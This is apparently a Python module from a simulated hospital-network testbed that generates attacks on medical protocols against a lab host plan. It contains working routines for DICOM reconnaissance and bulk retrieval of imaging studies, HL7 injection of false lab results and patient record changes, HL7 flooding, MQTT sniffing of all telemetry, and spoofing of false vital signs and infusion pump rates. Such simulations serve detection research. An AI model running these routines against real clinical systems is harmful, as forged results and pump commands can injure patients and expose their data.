"""Attacks on medical protocols: DICOM, HL7, MQTT."""

import re
import socket
import time

from ..life.clinical import PATIENTS, patient_id, patient_name
from ..plan import HOSTS
from ..work import Work, attack
from .means import by, turns

_UID = re.compile(rb"\(0020,000d\) UI \[([0-9.]+)")
_ANY_STATUS = range(256)


def dicom(w: Work, program: str, *options, called: str = "PACS", host: str = "pacs", port: int = 11112, calling: str = "READING1",
          good=(0,)):
    """Runs a DICOM client under a reading station's title."""
    return w.run(program, "-to", "5", "-aet", calling, "-aec", called, *options, HOSTS[host].v4, port, good=good)


def studies(w: Work, patient: str = "*") -> list[str]:
    """Asks the archive for its studies."""
    said = dicom(w, "findscu", "-v", "-S", "-k", "QueryRetrieveLevel=STUDY", "-k", f"PatientName={patient}", "-k", "StudyDate",
                 "-k", "StudyInstanceUID")
    return list(dict.fromkeys(uid.decode() for uid in _UID.findall(said.stdout + said.stderr)))


@attack("dicom-reconnaissance")
def dicom_reconnaissance(w: Work, intensity: str) -> None:
    """Application titles are tried on machines that may speak DICOM (C-ECHO), then the archive is asked for everything
    (C-FIND): 56 tries, 20, or 8 with long pauses."""
    hosts = by(intensity, ("pacs", "ct", "mr", "us", "reading-1", "reading-2", "his"), ("pacs", "reading-1", "ct", "mr"),
               ("pacs", "reading-1"))
    titles = by(intensity, ("PACS", "ORTHANC", "ANY-SCP", "STORESCP", "ARCHIVE", "CT", "READING1", "DCM4CHEE"),
                ("PACS", "ORTHANC", "ANY-SCP", "ARCHIVE", "READING1"), ("PACS", "ORTHANC", "ANY-SCP", "ARCHIVE"))
    period = by(intensity, 6, 24, 240)
    for (host, title), _ in zip(((host, title) for host in hosts for title in titles), w.every(period, 0.3)):
        dicom(w, "echoscu", called=title, host=host, calling="ECHOSCU", good=_ANY_STATUS)
    for name in by(intensity, ("*", "A*", "B*", "S*", "T*", "TEST^PATIENT 1*"), ("*", "T*"), ("*",)):
        w.log(f"{name}: {len(studies(w, name))} studies")
        w.sleep(period)


@attack("dicom-retrieval")
def dicom_retrieval(w: Work, intensity: str) -> None:
    """Studies are fetched one after another from the archive (C-GET) by a machine that has no business with them: 12 at once,
    8, or 4 with long pauses."""
    count, period = by(intensity, (12, 32), (8, 96), (4, 640))
    for study, _ in zip(studies(w)[:count], w.every(period, 0.3)):
        dicom(w, "getscu", "-S", "--ignore", "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={study}")


def _segments(w: Work, number: int, kind: str) -> bytes:
    """An HL7 message of a type such as ORU^R01 in its MLLP frame."""
    now = time.strftime("%Y%m%d%H%M%S")
    patient = w.rng.randrange(PATIENTS)
    lines = [f"MSH|^~\\&|LAB|TEST|HIS|TEST|{now}||{kind}|X{number:06d}|P|2.5",
             f"PID|1||{patient_id(patient)}^^^HOSPITAL^MR||{patient_name(patient)}||19700101|U", "PV1|1|I|WARD^1^1"]
    if kind.startswith("ORU"):
        lines += [f"OBR|1|{number}|{number}|2823-3^Potassium^LN",
                  f"OBX|1|NM|2823-3^Potassium^LN||{w.rng.uniform(1, 9):.1f}|mmol/L|3.5-5.1|HH|||F|||{now}"]
    return b"\x0b" + "\r".join(lines).encode() + b"\r\x1c\r"


def _send(w: Work, kinds: list[str], pause: float) -> None:
    """Sends messages over one connection, each after the answer to the one before."""
    with socket.create_connection((HOSTS["his"].v4, 2575), timeout=10) as line:
        for number, kind in enumerate(kinds):
            line.sendall(_segments(w, number, kind))
            line.recv(4096)
            if not w.pause(pause):
                return


@attack("hl7-injection")
def hl7_injection(w: Work, intensity: str) -> None:
    """False results and patient changes are sent to the information system by a machine that is no analyser: 40 messages, 15,
    or 6 with long pauses."""
    count, period = by(intensity, (40, 16), (15, 64), (6, 400))
    for turn in turns(w, count, period, 0.4):
        kinds = [w.rng.choice(("ORU^R01", "ADT^A08", "ADT^A40", "ORM^O01")) for _ in range(w.rng.randrange(1, 4))]
        w.attempt(_send, w, kinds, 0.2)


@attack("hl7-flood")
def hl7_flood(w: Work, intensity: str) -> None:
    """The information system is kept busy with results: a burst of 50 messages each second for 24 s, 500 messages at up to 25
    a second, or 150 at up to 3."""
    connections, each, pause = by(intensity, (24, 50, 0), (10, 50, 0.04), (3, 50, 0.33))
    for _ in turns(w, connections, 16):
        w.attempt(_send, w, ["ORU^R01"] * each, pause)


@attack("mqtt-sniffing")
def mqtt_sniffing(w: Work, intensity: str) -> None:
    """Somebody who needs none of it subscribes to every topic of the telemetry broker: for 100 real seconds, 40, or three
    times 8."""
    rounds, seconds = by(intensity, (1, 100), (1, 40), (3, 8))
    for turn in range(rounds):
        if turn and not w.sleep(400):
            return
        heard = w.run("mosquitto_sub", "-h", HOSTS["broker"].v4, "-t", "#", "-v", "-W", seconds, timeout=seconds + 10,
                      good=(0, 27))
        w.log(f"{heard.stdout.count(10)} messages heard")


@attack("mqtt-spoofing")
def mqtt_spoofing(w: Work, intensity: str) -> None:
    """False vital signs and pump rates are published in the name of devices: 150 in lively connections, 40, or 8 with long
    pauses."""
    count, period = by(intensity, (150, 6), (40, 32), (8, 320))
    for turn in turns(w, count, period, 0.3):
        bed = w.rng.randrange(1, 7)
        topic, text = w.rng.choice(((f"ward/bed-{bed}/vitals", '{"heart_rate": 0, "spo2": 61}'),
                                     (f"ward/pump-{bed}/rate", '{"rate_ml_h": 999}')))
        w.run("mosquitto_pub", "-h", HOSTS["broker"].v4, "-i", f"monitor-{bed}x", "-t", topic, "-m", text)
